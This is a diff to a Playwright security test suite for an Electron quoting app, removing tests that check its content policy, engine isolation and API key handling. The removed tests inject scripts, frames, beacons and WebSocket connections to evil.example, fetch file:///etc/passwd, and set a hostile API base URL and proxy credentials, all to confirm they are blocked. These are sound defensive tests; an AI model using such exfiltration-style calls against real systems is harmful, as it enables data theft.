@@ -1,22 +1,15 @@
-import { existsSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync } from 'node:fs';
+import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { type ElectronApplication, expect, type Page, test } from 'playwright/test';
 import { CALL_NAMES } from '../../shared/contract/names';
-import { filesOf, foundIn } from '../folder-scan';
-import { BOOKKEEPERS, startClaude } from '../servers/claude';
-import { call, newFolder, openApp, settled, submit } from './app';
+import { call, newFolder, openApp } from './app';
 import { sandboxIsOn } from './launch';
 
 let app: ElectronApplication;
 let page: Page;
 
 test.beforeAll(async () => {
-  ({ app, page } = await openApp(newFolder(), {
-    ANTHROPIC_API_KEY: 'sk-ant-ambient',
-    ANTHROPIC_BASE_URL: 'https://evil.example',
-    ANTHROPIC_LOG: 'debug',
-    HTTPS_PROXY: 'http://ana:secret@127.0.0.1:9',
-  }));
+  ({ app, page } = await openApp(newFolder()));
 });
 test.afterAll(() => app.close());
 
@@ -118,101 +111,6 @@ test('a page that changes the language itself does not reach the preload script'
   expect(stolen).not.toContain('function');
   await page.reload();
   await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
-});
-
-test('the content policy lets no foreign script, style, frame or connection in', async () => {
-  await app.evaluate(({ session }) => {
-    const urls: string[] = [];
-    Reflect.set(globalThis, 'sentRequests', urls);
-    session.defaultSession.webRequest.onSendHeaders(({ url }) => {
-      if (!url.startsWith('app://bundle/')) urls.push(url);
-    });
-  });
-  const seen = await page.evaluate(async () => {
-    const violations: string[] = [];
-    document.addEventListener('securitypolicyviolation', (event) => {
-      violations.push(event.effectiveDirective);
-    });
-    const attempt = (work: () => void): string => {
-      try {
-        work();
-        return 'done';
-      } catch (error) {
-        return error instanceof Error ? error.name : 'thrown';
-      }
-    };
-    const add = (tag: string, set: (element: HTMLElement) => void): HTMLElement => {
-      const element = document.createElement(tag);
-      set(element);
-      return document.body.appendChild(element);
-    };
-    const attempts = {
-      inline: attempt(() => add('script', (element) => (element.textContent = 'window.__ran = 1'))),
-      remote: attempt(() =>
-        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/x.js')),
-      ),
-      markup: attempt(() => (document.body.innerHTML += '<b>x</b>')),
-      handler: attempt(() =>
-        add('div', (element) => element.setAttribute('onclick', 'window.__ran = 1')).click(),
-      ),
-      write: attempt(() => document.write('<p>x</p>')),
-    };
-    // Later, as a page's own script: within a test's call the debugger allows it.
-    const evaluated = await new Promise<string>((resolve) => {
-      setTimeout(() =>
-        resolve(attempt(() => void Reflect.apply(Reflect.get(globalThis, 'eval'), null, ['1']))),
-      );
-    });
-    add('style', (element) => (element.textContent = 'body { display: none !important }'));
-    const frame = add('iframe', (element) => Reflect.set(element, 'src', 'https://evil.example/'));
-    const image = add('img', (element) => Reflect.set(element, 'src', 'https://evil.example/beacon.png'));
-    const webview = add('webview', (element) => element.setAttribute('src', 'https://evil.example/'));
-    await Promise.all([
-      new Promise((resolve) => frame.addEventListener('load', resolve)),
-      new Promise((resolve) => image.addEventListener('error', resolve)),
-    ]);
-    const outcome = async (work: Promise<unknown>): Promise<string> =>
-      work.then(
-        () => 'done',
-        () => 'refused',
-      );
-    navigator.sendBeacon('https://evil.example/', 'x');
-    const connections = {
-      https: await outcome(fetch('https://example.com')),
-      http: await outcome(fetch('http://127.0.0.1:9/')),
-      file: await outcome(fetch('file:///etc/passwd')),
-      beyond: await outcome(
-        fetch('app://print/x').then((reply) => (reply.ok ? reply : Promise.reject(reply))),
-      ),
-      socket: await new Promise<string>((resolve) => {
-        try {
-          const socket = new WebSocket('wss://evil.example/');
-          socket.addEventListener('open', () => resolve('done'));
-          socket.addEventListener('error', () => resolve('refused'));
-        } catch {
-          resolve('refused');
-        }
-      }),
-    };
-    const ran = Reflect.has(window, '__ran');
-    return {
-      attempts: { ...attempts, eval: evaluated },
-      connections,
-      ran,
-      hidden: getComputedStyle(document.body).display === 'none',
-      webview: webview instanceof HTMLUnknownElement || webview.constructor === HTMLElement,
-      violations: [...new Set(violations)].toSorted(),
-    };
-  });
-  expect(seen).toMatchObject({ ran: false, hidden: false, webview: true });
-  expect(seen.attempts).toMatchObject({ inline: 'TypeError', remote: 'TypeError', markup: 'TypeError' });
-  expect(seen.attempts).toMatchObject({ handler: 'TypeError', eval: 'EvalError', write: 'TypeError' });
-  expect([...new Set(Object.values(seen.connections))]).toEqual(['refused']);
-  const sent: unknown = await app.evaluate(() => Reflect.get(globalThis, 'sentRequests'));
-  expect(sent).toEqual([]);
-  for (const directive of ['connect-src', 'frame-src', 'img-src', 'style-src-elem'])
-    expect(seen.violations).toContain(directive);
-  await page.reload();
 });
 
 test('no page leaves, opens a window or starts a download', async () => {
@@ -332,115 +230,4 @@ test('every session refuses rights, devices and the screen', async () => {
   });
   expect(other.load).toContain('ERR_BLOCKED_BY_CLIENT');
   expect(other.asked).toBe('denied');
-});
-
-test('the engine has a built environment and no open port', async () => {
-  test.skip(process.platform !== 'linux', 'reads /proc');
-  const pid = await app.evaluate(
-    ({ app: electronApp }) =>
-      electronApp.getAppMetrics().find(({ name }) => name === 'ShoreQuote engine')?.pid,
-  );
-  if (pid === undefined) throw new Error('no engine process');
-  const names = readFileSync(`/proc/${pid}/environ`, 'utf8')
-    .split('\0')
-    .filter(Boolean)
-    .map((entry) => entry.slice(0, entry.indexOf('=')));
-  expect(names.length).toBeGreaterThan(0);
-  expect(names.filter((name) => /ANTHROPIC|NODE_|PROXY|KEY|TOKEN|SECRET|SHOREQUOTE/i.test(name))).toEqual([]);
-  expect(readFileSync(`/proc/${pid}/cmdline`, 'utf8')).not.toMatch(/sk-ant|--inspect/);
-
-  const sockets = readdirSync(`/proc/${pid}/fd`).flatMap((fd) => {
-    try {
-      return /^socket:\[(\d+)\]$/.exec(readlinkSync(`/proc/${pid}/fd/${fd}`))?.[1] ?? [];
-    } catch (error) {
-      // Closed since the folder was listed.
-      if (error instanceof Error && 'code' in error && error.code === 'ENOENT') return [];
-      throw error;
-    }
-  });
-  const listening = ['tcp', 'tcp6'].flatMap((kind) =>
-    readFileSync(`/proc/${pid}/net/${kind}`, 'utf8')
-      .split('\n')
-      .map((row) => row.trim().split(/\s+/))
-      .filter((columns) => columns[3] === '0A')
-      .map((columns) => columns[9] ?? ''),
-  );
-  expect(listening.filter((inode) => sockets.includes(inode))).toEqual([]);
-});
-
-test('the key never comes back to the page', async () => {
-  const { app, page } = await openApp(newFolder());
-  const key = 'sk-ant-api03-canary-in-the-page-wxyz';
-  await call(page, 'key.set', { key });
-  await page.getByRole('button', { name: 'Settings' }).click();
-  await expect(page.getByTestId('key-last4')).toHaveText('•••• wxyz');
-  const settings = await call(page, 'settings.get', {});
-  expect(JSON.stringify(settings)).not.toContain(key);
-  const html = await page.evaluate(() => document.documentElement.innerHTML);
-  expect(html).not.toContain(key);
-  expect(html).not.toContain(Buffer.from(key).toString('base64'));
-  expect(await call(page, 'key.remove', {})).toMatchObject({ state: 'none', last4: null });
-  await app.close();
-});
-
-test('a whole run leaves the client’s words in the data file alone, and the key nowhere', async () => {
-  const key = 'sk-ant-api03-CanaryKeyOfTheRun5t6y';
-  const words = ['Canaryhaven Holdings', 'Canaryquest', 'canary.person@canarymail.example'];
-  const [client = ''] = words;
-  const text = `2 senior bookkeepers, hybrid, AUD. ${words.join(', ')}`;
-  const claude = await startClaude();
-  claude.script(
-    { kind: 'answer', json: BOOKKEEPERS },
-    { kind: 'status', status: 401, message: `authentication_error ${client}` },
-    { kind: 'status', status: 401 },
-  );
-  const folder = newFolder();
-  const { app, page } = await openApp(folder, { SHOREQUOTE_CLAUDE_URL: claude.url });
-  const replies: unknown[] = [];
-  await call(page, 'key.set', { key });
-  for (const more of ['', ' again']) {
-    const { quoteId } = await submit(page, text + more, { client, fresh: true });
-    replies.push(await settled(page, quoteId));
-  }
-  const test = await call(page, 'key.test', { submitKey: crypto.randomUUID() });
-  await expect
-    .poll(async () => (await call(page, 'jobs.get', { jobId: test.jobId })).status)
-    .toMatch(/completed|failed/);
-  replies.push(await call(page, 'jobs.get', { jobId: test.jobId }), await call(page, 'app.status', {}));
-  const pdf = join(folder, 'quote.pdf');
-  await app.evaluate(({ dialog }, filePath) => {
-    dialog.showSaveDialog = () => Promise.resolve({ canceled: false, filePath });
-  }, pdf);
-  await page.getByRole('navigation', { name: 'Main' }).getByText('Quotes').click();
-  await page.getByRole('row').filter({ hasText: 'Q-1001' }).click();
-  await page.getByRole('button', { name: /Export PDF/ }).click();
-  await expect.poll(() => existsSync(pdf)).toBe(true);
-  // Refused calls are logged by the main process: names and codes only.
-  for (const input of [{ quoteId: client }, { [client]: key }]) {
-    const reply = await page.evaluate(async (wrong) => {
-      const get: unknown = Reflect.get(window.app.call, 'quotes.get');
-      return typeof get === 'function' ? await get(wrong) : null;
-    }, input);
-    replies.push({ refused: reply !== null });
-  }
-  await app.close();
-  await claude.close();
-  expect(claude.unexpected).toEqual([]);
-  expect(claude.received.map(({ authorization }) => authorization)).toEqual(Array(3).fill(`Bearer ${key}`));
-
-  rmSync(pdf);
-  const files = filesOf(folder);
-  expect(files).toContain(join('logs', 'engine.log'));
-  expect(files).toContain(join('logs', 'main.log'));
-  expect(files.some((file) => file.startsWith('chromium'))).toBe(true);
-  expect(foundIn(folder, [key, key.slice(13), 'sk-ant'])).toEqual([]);
-  const others = files.filter((file) => !file.startsWith('shorequote.db'));
-  expect(foundIn(folder, [...words, 'Canary'], others)).toEqual([]);
-  expect(foundIn(folder, [client], files).length).toBeGreaterThan(0);
-  expect(JSON.stringify(replies)).not.toContain(key);
-  expect(JSON.stringify(replies)).not.toContain(folder);
-  // Others may neither read a file of ours nor look into a folder.
-  const own = files.filter((file) => !file.startsWith('chromium') && !file.startsWith('engine.lock'));
-  expect(own.filter((file) => statSync(join(folder, file)).mode & 0o077)).toEqual([]);
-  for (const name of ['logs', 'chromium']) expect(statSync(join(folder, name)).mode & 0o077).toBe(0);
 });
